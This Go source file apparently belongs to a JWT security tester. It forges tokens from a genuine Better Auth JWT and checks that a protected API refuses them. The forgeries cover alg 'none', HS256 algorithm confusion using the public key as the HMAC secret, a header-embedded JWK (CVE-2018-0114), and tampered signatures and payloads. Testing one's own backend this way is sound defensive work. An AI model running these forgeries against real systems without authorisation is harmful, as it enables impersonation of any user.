// Package probe attacks a protected API with tokens forged from a genuine
// Better Auth JWT, and says whether the backend refused every one of them.
// Each forgery is a known way verifiers have been fooled (RFC 8725 §2): a
// backend that accepts one of them accepts tokens nobody signed. The package
// never prints: it returns a Report for the renderers.
package probe

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	_ "crypto/sha512" // crypto.SHA384 and crypto.SHA512 for the forged signatures
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"maps"
	"math/big"
	"slices"
	"strings"

	"github.com/baverify/baverify/internal/verify"
)

// Case names, in the order they run. They are part of the JSON output.
const (
	CaseGenuine           = "genuine"
	CaseNoToken           = "no_token"
	CaseMalformed         = "malformed"
	CaseSignatureTampered = "signature_tampered"
	CasePayloadTampered   = "payload_tampered"
	CaseAlgNone           = "alg_none"
	CaseHMACPublicKey     = "hmac_public_key"
	CaseEmbeddedJWK       = "embedded_jwk"
)

// ForgedSubject is the sub that payload_tampered claims to be.
const ForgedSubject = "baverify-probe-forged-subject"

// Case is one request of a probe.
type Case struct {
	Name string
	// Attack says what is sent and what a backend that accepts it gets
	// wrong.
	Attack string
	// Authorization is the header value sent; "" sends none.
	Authorization string
	// Token is the (forged) token in Authorization, for redaction; "" when
	// the header carries none.
	Token string
	// Genuine: the unmodified token, expected to be accepted. Every other
	// case must be refused.
	Genuine bool
	// Skip says why the case cannot be built; it is then not sent.
	Skip string
}

// Forge builds every case from a genuine compact JWS. key is the public key
// the token verifies with, when the JWKS gave it (nil: hmac_public_key is
// skipped). random feeds the embedded_jwk key; nil means crypto/rand.
func Forge(token string, key crypto.PublicKey, random io.Reader) ([]Case, error) {
	tok, err := verify.Decode(token)
	if err != nil {
		return nil, err
	}
	alg, _, err := tok.Header.String("alg")
	if err != nil {
		return nil, err
	}
	if random == nil {
		random = rand.Reader
	}
	bearer := func(t string) string { return "Bearer " + t }
	enc := base64.RawURLEncoding.EncodeToString
	headerSeg, payloadSeg, _ := strings.Cut(tok.SigningInput, ".")

	cases := []Case{
		{Name: CaseGenuine, Genuine: true, Token: token, Authorization: bearer(token),
			Attack: "the genuine token, unchanged: the backend must accept it, or the other results mean nothing"},
		{Name: CaseNoToken,
			Attack: "no Authorization header: a protected route must refuse anonymous calls"},
		{Name: CaseMalformed, Authorization: "Bearer not-a-jwt",
			Attack: `"Bearer not-a-jwt": a token that does not even parse`},
	}

	// One bit of the signature flipped: a backend that accepts it does not
	// check signatures at all.
	sig := bytes.Clone(tok.Signature)
	if len(sig) == 0 {
		sig = []byte{0}
	}
	sig[len(sig)/2] ^= 0x01
	flipped := tok.SigningInput + "." + enc(sig)
	cases = append(cases, Case{Name: CaseSignatureTampered, Token: flipped, Authorization: bearer(flipped),
		Attack: "the genuine token with one bit of its signature flipped: accepting it means signatures are not checked"})

	// The payload says someone else, under the original signature.
	claims, err := setMembers(tok.Claims, map[string]any{"sub": ForgedSubject})
	if err != nil {
		return nil, err
	}
	tampered := headerSeg + "." + enc(claims) + "." + enc(tok.Signature)
	cases = append(cases, Case{Name: CasePayloadTampered, Token: tampered, Authorization: bearer(tampered),
		Attack: fmt.Sprintf("sub changed to %q under the original signature: accepting it lets anyone be any user", ForgedSubject)})

	// alg "none" and no signature (RFC 8725 §2.1).
	noneHeader, err := setMembers(tok.Header, map[string]any{"alg": "none"})
	if err != nil {
		return nil, err
	}
	none := enc(noneHeader) + "." + payloadSeg + "."
	cases = append(cases, Case{Name: CaseAlgNone, Token: none, Authorization: bearer(none),
		Attack: `alg "none" and an empty signature (RFC 8725 §2.1): accepting it means the header picks the algorithm`})

	// HS256 keyed with the public key's PEM: the algorithm-confusion attack
	// on verifiers that take the algorithm from the header and a key as
	// bytes (RFC 8725 §2.1).
	hmacCase := Case{Name: CaseHMACPublicKey,
		Attack: "HS256 signed with the JWKS public key (PEM) as the HMAC secret: the algorithm-confusion attack (RFC 8725 §2.1)"}
	if key == nil {
		hmacCase.Skip = "the public key is not known: give --base-url or --jwks"
	} else if pemKey, err := publicPEM(key); err != nil {
		hmacCase.Skip = err.Error()
	} else {
		h, err := setMembers(tok.Header, map[string]any{"alg": "HS256"})
		if err != nil {
			return nil, err
		}
		input := enc(h) + "." + payloadSeg
		mac := hmac.New(sha256.New, pemKey)
		mac.Write([]byte(input))
		forged := input + "." + enc(mac.Sum(nil))
		hmacCase.Token, hmacCase.Authorization = forged, bearer(forged)
	}
	cases = append(cases, hmacCase)

	// Signed by a key baverify just made, which the header carries in "jwk"
	// (CVE-2018-0114): accepting it means the token brings its own key.
	jwkCase := Case{Name: CaseEmbeddedJWK,
		Attack: `signed with a fresh key that the header carries in "jwk" (CVE-2018-0114): accepting it means the token brings its own key`}
	if forged, err := signWithEmbeddedKey(tok, alg, payloadSeg, random); err != nil {
		jwkCase.Skip = err.Error()
	} else {
		jwkCase.Token, jwkCase.Authorization = forged, bearer(forged)
	}
	cases = append(cases, jwkCase)
	return cases, nil
}

// setMembers re-encodes a JSON object with some members replaced or added,
// keeping the order and the bytes of the others.
func setMembers(obj verify.Object, set map[string]any) ([]byte, error) {
	var b bytes.Buffer
	b.WriteByte('{')
	n := 0
	write := func(name string, raw []byte) {
		if n > 0 {
			b.WriteByte(',')
		}
		n++
		k, _ := json.Marshal(name)
		b.Write(k)
		b.WriteByte(':')
		b.Write(raw)
	}
	done := map[string]bool{}
	for _, name := range obj.Keys {
		raw := []byte(obj.Members[name])
		if v, ok := set[name]; ok {
			enc, err := json.Marshal(v)
			if err != nil {
				return nil, err
			}
			raw, done[name] = enc, true
		}
		write(name, raw)
	}
	for _, name := range slices.Sorted(maps.Keys(set)) {
		if done[name] {
			continue
		}
		enc, err := json.Marshal(set[name])
		if err != nil {
			return nil, err
		}
		write(name, enc)
	}
	b.WriteByte('}')
	return b.Bytes(), nil
}

// publicPEM is the PKIX ("PUBLIC KEY") PEM of a public key, the bytes a
// confused verifier uses as the HMAC secret.
func publicPEM(key crypto.PublicKey) ([]byte, error) {
	der, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		return nil, fmt.Errorf("the public key has no PEM form: %v", err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
}

// signWithEmbeddedKey signs the payload with a fresh key of the token's own
// algorithm and puts that key's public JWK in the header.
func signWithEmbeddedKey(tok *verify.Token, alg, payloadSeg string, random io.Reader) (string, error) {
	enc := base64.RawURLEncoding.EncodeToString
	var (
		jwk  map[string]any
		sign func(input []byte) ([]byte, error)
	)
	switch alg {
	case "EdDSA":
		pub, priv, err := ed25519.GenerateKey(random)
		if err != nil {
			return "", err
		}
		jwk = map[string]any{"kty": "OKP", "crv": "Ed25519", "x": enc(pub)}
		sign = func(in []byte) ([]byte, error) { return ed25519.Sign(priv, in), nil }
	case "ES256", "ES384", "ES512":
		curve, hash, crv := ecParams(alg)
		priv, err := ecdsa.GenerateKey(curve, random)
		if err != nil {
			return "", err
		}
		size := (curve.Params().BitSize + 7) / 8
		pub, err := priv.PublicKey.Bytes() // 0x04 || X || Y
		if err != nil {
			return "", err
		}
		jwk = map[string]any{"kty": "EC", "crv": crv, "x": enc(pub[1 : 1+size]), "y": enc(pub[1+size:])}
		sign = func(in []byte) ([]byte, error) {
			h := hash.New()
			h.Write(in)
			r, s, err := ecdsa.Sign(random, priv, h.Sum(nil))
			if err != nil {
				return nil, err
			}
			out := make([]byte, 2*size)
			r.FillBytes(out[:size])
			s.FillBytes(out[size:])
			return out, nil
		}
	case "RS256", "RS384", "RS512", "PS256", "PS384", "PS512":
		priv, err := rsa.GenerateKey(random, 2048)
		if err != nil {
			return "", err
		}
		jwk = map[string]any{"kty": "RSA", "n": enc(priv.N.Bytes()), "e": enc(big.NewInt(int64(priv.E)).Bytes())}
		hash := map[byte]crypto.Hash{'2': crypto.SHA256, '3': crypto.SHA384, '5': crypto.SHA512}[alg[2]]
		sign = func(in []byte) ([]byte, error) {
			h := hash.New()
			h.Write(in)
			if alg[0] == 'P' {
				return rsa.SignPSS(random, priv, hash, h.Sum(nil), &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash})
			}
			return rsa.SignPKCS1v15(random, priv, hash, h.Sum(nil))
		}
	default:
		return "", fmt.Errorf("no key can be made for alg %q", alg)
	}
	h, err := setMembers(tok.Header, map[string]any{"jwk": jwk})
	if err != nil {
		return "", err
	}
	input := enc(h) + "." + payloadSeg
	sig, err := sign([]byte(input))
	if err != nil {
		return "", err
	}
	return input + "." + enc(sig), nil
}

func ecParams(alg string) (elliptic.Curve, crypto.Hash, string) {
	switch alg {
	case "ES384":
		return elliptic.P384(), crypto.SHA384, "P-384"
	case "ES512":
		return elliptic.P521(), crypto.SHA512, "P-521"
	}
	return elliptic.P256(), crypto.SHA256, "P-256"
}
